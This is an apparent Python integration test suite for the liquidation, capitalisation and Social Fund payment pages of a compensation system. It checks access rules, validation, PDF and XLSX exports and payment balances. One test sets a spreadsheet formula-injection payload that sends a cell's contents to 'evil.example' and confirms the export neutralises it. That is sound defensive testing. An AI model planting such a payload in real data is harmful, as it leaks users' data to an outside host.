"""The pages of liquidation (art. 255): the employer capitalises and transfers, the Social Fund pays.

Forms are posted as a browser posts them; every figure is checked against the
:class:`Capitalisation` the service froze from the engine, never against numbers typed here.
"""

from __future__ import annotations

import io
import re
from decimal import Decimal
from typing import Any

import sqlalchemy as sa
from markupsafe import escape
from openpyxl import load_workbook
from pypdf import PdfReader

from claims.models import Capitalisation, Claim, FundPayment
from core import db
from core.classifiers import EmployerStatus
from core.employers import Employer
from core.formatting import money, readable
from tests.integration.liquidation.conftest import liquidate
from tests.pages import field_errors


def _set_employer(app, employer_id: int, **values: Any) -> None:
    with app.app_context(), db.transaction() as s:
        s.execute(sa.update(Employer).where(Employer.id == employer_id).values(**values))


def _records(app, employer_id: int) -> list[Capitalisation]:
    with app.app_context():
        return list(
            db.session().scalars(
                sa.select(Capitalisation)
                .where(Capitalisation.employer_id == employer_id)
                .order_by(Capitalisation.id)
            )
        )


def _capitalised(app, login_as, case) -> Capitalisation:
    liquidate(app, case["employer"].id)
    response = login_as(case["officer"]).post(
        f"/compensation/liquidation/{case['employer'].id}/capitalise",
        data={"on": "2027-03-31", "confirm": "1"},
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    [record] = _records(app, case["employer"].id)
    return record


def _transferred(app, login_as, case) -> Capitalisation:
    record = _capitalised(app, login_as, case)
    response = login_as(case["officer"]).post(
        f"/compensation/capitalisations/{record.id}/transfer",
        data={"transferred_on": "2027-04-15", "reference": "п/п 77", "version": str(record.version)},
    )
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    return _records(app, case["employer"].id)[0]


def value_of(response: Any, name: str) -> str | None:
    match = re.search(
        rf'name="{re.escape(name)}" id="f-{re.escape(name)}" value="([^"]*)"', response.get_data(as_text=True)
    )
    return match.group(1) if match else None


# --- the liquidation page ----------------------------------------------------------------------------------


def test_the_liquidation_page_is_the_employers_and_the_admins(app, login_as, case):
    liquidate(app, case["employer"].id)
    url = f"/compensation/liquidation/{case['employer'].id}"

    own = login_as(case["officer"]).get(url)
    admin = login_as(case["admin"]).get(url)
    stranger = login_as(case["stranger"]).get(url)
    inspector = login_as(case["inspector"]).get(url)
    fund = login_as(case["fund"]).get(url)
    missing = login_as(case["officer"]).get("/compensation/liquidation/987654321")

    assert own.status_code == 200
    body = own.get_data(as_text=True)
    assert f'data-claim="{case["claim"]["id"]}"' in body
    assert 'id="capitalise"' in body
    assert admin.status_code == 200
    assert stranger.status_code == 404  # another employer's officer: as if it did not exist
    assert missing.status_code == 404
    assert inspector.status_code == 403
    assert fund.status_code == 403


def test_an_active_employer_has_nothing_to_capitalise(login_as, case):
    response = login_as(case["officer"]).get(f"/compensation/liquidation/{case['employer'].id}")
    posted = login_as(case["officer"]).post(
        f"/compensation/liquidation/{case['employer'].id}/capitalise", data={"on": "2027-03-31"}
    )

    assert response.status_code == 200
    assert 'id="not-liquidating"' in response.get_data(as_text=True)
    assert 'id="capitalise"' not in response.get_data(as_text=True)
    assert posted.status_code == 422
    assert "employer_id" in field_errors(posted)


def test_the_capitalise_form_rejects_a_bad_date_and_keeps_it(app, login_as, case):
    liquidate(app, case["employer"].id)
    officer = login_as(case["officer"])
    url = f"/compensation/liquidation/{case['employer'].id}/capitalise"

    bad = officer.post(url, data={"on": "31.02.2027"})
    blank = officer.post(url, data={"on": ""})

    assert bad.status_code == 422
    assert "on" in field_errors(bad)
    assert value_of(bad, "on") == "31.02.2027"
    assert blank.status_code == 422
    assert "on" in field_errors(blank)
    assert _records(app, case["employer"].id) == []


def test_capitalising_twice_does_not_double(app, login_as, case):
    record = _capitalised(app, login_as, case)
    officer = login_as(case["officer"])

    again = officer.post(
        f"/compensation/liquidation/{case['employer'].id}/capitalise",
        data={"on": "2027-03-31", "confirm": "1"},
    )
    page = officer.get(f"/compensation/liquidation/{case['employer'].id}")
    body = page.get_data(as_text=True)

    assert again.status_code == 302
    assert [r.id for r in _records(app, case["employer"].id)] == [record.id]
    assert record.amount > 0
    assert record.months >= 120
    total = re.search(r'id="total">([^<]*)<', body)
    assert total
    assert total.group(1) == money(record.amount)
    assert money(record.monthly_award) in body
    assert money(Decimal(record.details["arrears"])) in body
    assert str(escape(readable(record.details["trace"][0]["rule"]))) in body
    assert 'data-parameter="age_limit">70<' in body


def test_the_statement_pdf_and_xlsx_carry_the_sums(app, login_as, case):
    record = _capitalised(app, login_as, case)
    officer = login_as(case["officer"])

    pdf = officer.get(f"/compensation/liquidation/{case['employer'].id}/capitalisation.pdf")
    xlsx = officer.get(f"/compensation/liquidation/{case['employer'].id}/capitalisation.xlsx")
    stranger = login_as(case["stranger"]).get(
        f"/compensation/liquidation/{case['employer'].id}/capitalisation.pdf"
    )

    assert pdf.status_code == 200
    assert pdf.mimetype == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf.data)).pages)
    flat = re.sub(r"\s+", " ", text)
    amount = f"{record.amount:,.2f}".replace(",", " ").replace(".", ",")
    assert amount in flat
    assert f"{Decimal(record.details['arrears']):,.2f}".replace(",", " ").replace(".", ",") in flat
    assert "Капитализация" in flat  # the reader reads Russian (Kyrgyz: test_capitalisation_document.py)
    assert "ликвидационной комиссии" in flat
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.data)).worksheets[0]
    cells = [cell.value for row in sheet.iter_rows() for cell in row]
    assert record.amount in [Decimal(str(v)) for v in cells if isinstance(v, int | float | Decimal)]
    assert stranger.status_code == 404


def test_the_transfer_form_rejects_bad_input_with_field_messages(app, login_as, case):
    record = _capitalised(app, login_as, case)
    officer = login_as(case["officer"])
    url = f"/compensation/capitalisations/{record.id}/transfer"

    no_date = officer.post(url, data={"reference": "п/п 77", "version": str(record.version)})
    long_reference = officer.post(
        url, data={"transferred_on": "2027-04-15", "reference": "x" * 121, "version": str(record.version)}
    )
    stranger = login_as(case["stranger"]).post(url, data={"not_made": "1", "version": str(record.version)})
    fund = login_as(case["fund"]).post(url, data={"not_made": "1", "version": str(record.version)})

    assert no_date.status_code == 422
    assert "transferred_on" in field_errors(no_date)
    assert value_of(no_date, "reference") == "п/п 77"
    assert long_reference.status_code == 422
    assert "reference" in field_errors(long_reference)
    assert value_of(long_reference, "transferred_on") == "2027-04-15"
    assert stranger.status_code == 404
    assert fund.status_code == 403
    [unchanged] = _records(app, case["employer"].id)
    assert unchanged.transferred_on is None
    assert not unchanged.not_made


def test_a_transfer_is_recorded_once(app, login_as, case):
    record = _transferred(app, login_as, case)
    officer = login_as(case["officer"])

    again = officer.post(
        f"/compensation/capitalisations/{record.id}/transfer",
        data={"not_made": "1", "version": str(record.version)},
    )
    body = officer.get(f"/compensation/liquidation/{case['employer'].id}").get_data(as_text=True)

    assert record.transferred_on.isoformat() == "2027-04-15"
    assert record.transfer_reference == "п/п 77"
    assert again.status_code == 422
    assert 'data-transfer="made"' in body
    assert f'class="fields transfer" data-capitalisation="{record.id}"' not in body


def test_a_transfer_not_made_is_listed_for_the_fund(app, login_as, case):
    record = _capitalised(app, login_as, case)
    moved = login_as(case["officer"]).post(
        f"/compensation/capitalisations/{record.id}/transfer",
        data={"not_made": "1", "version": str(record.version)},
    )
    fund = login_as(case["fund"])

    only = fund.get("/compensation/capitalisations?not_made=1")
    detail = fund.get(f"/compensation/capitalisations/{record.id}")

    assert moved.status_code == 302
    assert f'data-capitalisation="{record.id}"' in only.get_data(as_text=True)
    assert 'data-transfer="not_made"' in detail.get_data(as_text=True)
    assert 'id="new-payment"' in detail.get_data(as_text=True)


def test_with_a_successor_the_admin_passes_the_claims_over(app, login_as, make_employer, case):
    successor = make_employer(name="Successor LLC")
    _set_employer(app, case["employer"].id, status=EmployerStatus.IN_LIQUIDATION, successor_id=successor.id)
    url = f"/compensation/liquidation/{case['employer'].id}"

    officer_page = login_as(case["officer"]).get(url).get_data(as_text=True)
    refused = login_as(case["officer"]).post(f"{url}/successor-transfer")
    admin = login_as(case["admin"])
    admin_page = admin.get(url).get_data(as_text=True)
    moved = admin.post(f"{url}/successor-transfer")

    assert 'id="successor-transfer"' in officer_page
    assert 'id="capitalise"' not in officer_page
    assert "successor-transfer" not in re.sub(r'id="successor-transfer"', "", officer_page)  # no button
    assert f'action="{url}/successor-transfer"' in admin_page
    assert refused.status_code == 403
    assert moved.status_code == 302
    with app.app_context():
        assert db.session().get(Claim, case["claim"]["id"]).employer_id == successor.id
    assert _records(app, case["employer"].id) == []


def test_the_employer_card_links_to_its_liquidation(app, login_as, case):
    card = f"/employers/{case['employer'].id}"
    link = f"/compensation/liquidation/{case['employer'].id}"

    before = login_as(case["admin"]).get(card).get_data(as_text=True)
    liquidate(app, case["employer"].id)
    after = login_as(case["admin"]).get(card).get_data(as_text=True)

    assert link not in before
    assert link in after


# --- the Social Fund's pages ------------------------------------------------------------------------------


def test_the_fund_lists_the_capitalised_cases_of_its_region(app, login_as, case):
    record = _capitalised(app, login_as, case)

    own = login_as(case["fund"]).get("/compensation/capitalisations")
    elsewhere = login_as(case["fund_osh"]).get("/compensation/capitalisations")
    officer = login_as(case["officer"]).get("/compensation/capitalisations")
    inspector = login_as(case["inspector"]).get("/compensation/capitalisations")
    not_made = login_as(case["fund"]).get("/compensation/capitalisations?not_made=1")
    bad_page = login_as(case["fund"]).get("/compensation/capitalisations?page=0")

    assert own.status_code == 200
    body = own.get_data(as_text=True)
    assert f'data-capitalisation="{record.id}"' in body
    assert money(record.amount) in body
    assert case["employer"].name in body
    assert f'data-capitalisation="{record.id}"' not in elsewhere.get_data(as_text=True)
    assert elsewhere.status_code == 200
    assert officer.status_code == 403
    assert inspector.status_code == 403
    assert f'data-capitalisation="{record.id}"' not in not_made.get_data(as_text=True)
    assert bad_page.status_code == 422
    assert "page" in field_errors(bad_page)


def test_the_capitalisation_page_is_the_funds_of_its_region(app, login_as, case):
    record = _capitalised(app, login_as, case)
    url = f"/compensation/capitalisations/{record.id}"

    own = login_as(case["fund"]).get(url)
    admin = login_as(case["admin"]).get(url)
    elsewhere = login_as(case["fund_osh"]).get(url)
    officer = login_as(case["officer"]).get(url)
    missing = login_as(case["fund"]).get("/compensation/capitalisations/987654321")

    assert own.status_code == 200
    body = own.get_data(as_text=True)
    assert money(record.amount) in body
    assert str(escape(readable(record.details["trace"][0]["rule"]))) in body
    assert 'id="new-payment"' in body
    assert admin.status_code == 200
    assert elsewhere.status_code == 404
    assert missing.status_code == 404
    assert officer.status_code == 403


def test_the_fund_pays_only_once_the_sum_is_transferred(app, login_as, case):
    record = _capitalised(app, login_as, case)
    fund = login_as(case["fund"])

    page = fund.get(f"/compensation/capitalisations/{record.id}").get_data(as_text=True)
    early = fund.post(
        f"/compensation/capitalisations/{record.id}/fund-payments",
        data={"paid_on": "2027-04-30", "amount": "1000.00"},
    )

    assert f'action="/compensation/capitalisations/{record.id}/fund-payments"' not in page
    assert early.status_code == 422
    with app.app_context():
        assert db.session().scalar(sa.select(sa.func.count()).select_from(FundPayment)) == 0


def test_a_fund_payment_never_exceeds_the_balance_and_the_balance_follows(app, login_as, case):
    record = _transferred(app, login_as, case)
    url = f"/compensation/capitalisations/{record.id}/fund-payments"
    fund = login_as(case["fund"])

    paid = fund.post(url, data={"paid_on": "2027-04-30", "amount": "1000.00", "reference": "ПП-1"})
    too_much = fund.post(url, data={"paid_on": "2027-05-31", "amount": f"{record.amount:.2f}"})
    bad = fund.post(url, data={"paid_on": "someday", "amount": "-5"})
    page = fund.get(f"/compensation/capitalisations/{record.id}").get_data(as_text=True)
    listing = fund.get("/compensation/capitalisations").get_data(as_text=True)
    elsewhere = login_as(case["fund_osh"]).post(url, data={"paid_on": "2027-04-30", "amount": "1.00"})
    officer = login_as(case["officer"]).post(url, data={"paid_on": "2027-04-30", "amount": "1.00"})

    assert paid.status_code == 302
    assert too_much.status_code == 422
    assert "amount" in field_errors(too_much)
    assert value_of(too_much, "amount") == f"{record.amount:.2f}"
    assert f"{record.amount - 1000:.2f}" in too_much.get_data(as_text=True)  # the service's message
    assert bad.status_code == 422
    assert {"paid_on", "amount"} <= field_errors(bad)
    assert value_of(bad, "paid_on") == "someday"
    balance = record.amount - Decimal("1000.00")
    assert re.search(r'id="balance">([^<]*)<', page).group(1) == money(balance)
    assert re.search(r'id="paid">([^<]*)<', page).group(1) == money(Decimal("1000.00"))
    assert "ПП-1" in page
    assert money(balance) in listing
    assert elsewhere.status_code == 404
    assert officer.status_code == 403


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_capitalisation_workbook_keeps_formula_like_names_as_text(app, login_as, case):
    from accidents.models import Victim

    _set_employer(app, case["employer"].id, name=HOSTILE)
    with app.app_context(), db.transaction() as s:
        s.execute(sa.update(Victim).where(Victim.id == case["victim"]).values(full_name="@" + HOSTILE[1:]))
    record = _capitalised(app, login_as, case)

    url = f"/compensation/liquidation/{case['employer'].id}/capitalisation.xlsx"
    xlsx = login_as(case["officer"]).get(url)

    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    assert "'" + HOSTILE in cells  # the employer
    assert "'@" + HOSTILE[1:] in cells  # the victim, on both sheets
    assert not [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert record.claim_id in cells  # numbers stay numbers


def test_a_kyrgyz_reader_sees_the_capitalisations_frozen_kyrgyz_trace(app, login_as, case):
    """Issue 16: the capitalisation's trace is kept in Russian and in Kyrgyz; each reader reads their own."""

    record = _capitalised(app, login_as, case)
    russian, kyrgyz = record.details["traces"]["ru"], record.details["traces"]["ky"]
    fund = login_as(case["fund"])
    fund.get("/lang/ky")

    body = fund.get(f"/compensation/capitalisations/{record.id}").get_data(as_text=True)

    assert len(kyrgyz) == len(russian) > 0
    assert str(escape(readable(kyrgyz[0]["rule"]))) in body
    assert str(escape(readable(russian[0]["rule"]))) not in body
